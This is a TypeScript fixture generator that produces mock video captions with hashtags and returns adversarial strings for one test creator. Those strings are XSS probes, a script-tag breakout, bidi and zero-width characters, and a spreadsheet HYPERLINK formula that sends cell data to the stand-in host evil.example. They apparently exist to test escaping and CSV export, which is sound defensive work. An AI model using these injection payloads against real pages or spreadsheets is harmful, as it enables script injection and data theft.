import { randomOf } from '../random.ts';
import type { Creator } from './creators.ts';

const rough: readonly [string, ...string[]] = [
  '<img src=x onerror="document.title=\'caught\'"> bold <b>claim</b>',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '\u202Etxt.emosdnah\u202C and \u2066isolated\u2069 words',
  '+1+1 @SUM(A1:A9) -2',
  '"quoted", with; separators\tand a tab\nand a second line',
  '</script><script>document.title="caught"</script>',
  'zero\u200Bwidth\u0000null\u0007bell',
  '𝓯𝓪𝓷𝓬𝔂 letters, עברית, العربية, 日本語, ไทย, 👩‍👩‍👧‍👦',
];

const openings = [
  '',
  '',
  '',
  'Save this: ',
  'Again, because you asked: ',
  'Honest answer: ',
  'POV: ',
] as const;

/** A caption with tags; now and then empty, as they are. */
export function captionOf(videoId: string, { theme, uniqueId }: Creator): string {
  const random = randomOf('caption', videoId);
  if (uniqueId === 'rough.edges') return random.pick(rough);
  if (random.chance(0.06)) return '';
  const tags = new Set([random.pick(theme.tags), random.pick(theme.tags)]);
  const sentence = random.pick(openings) + random.pick(theme.captions);
  return [sentence, ...[...tags].map((tag) => `#${tag}`)].join(' ');
}
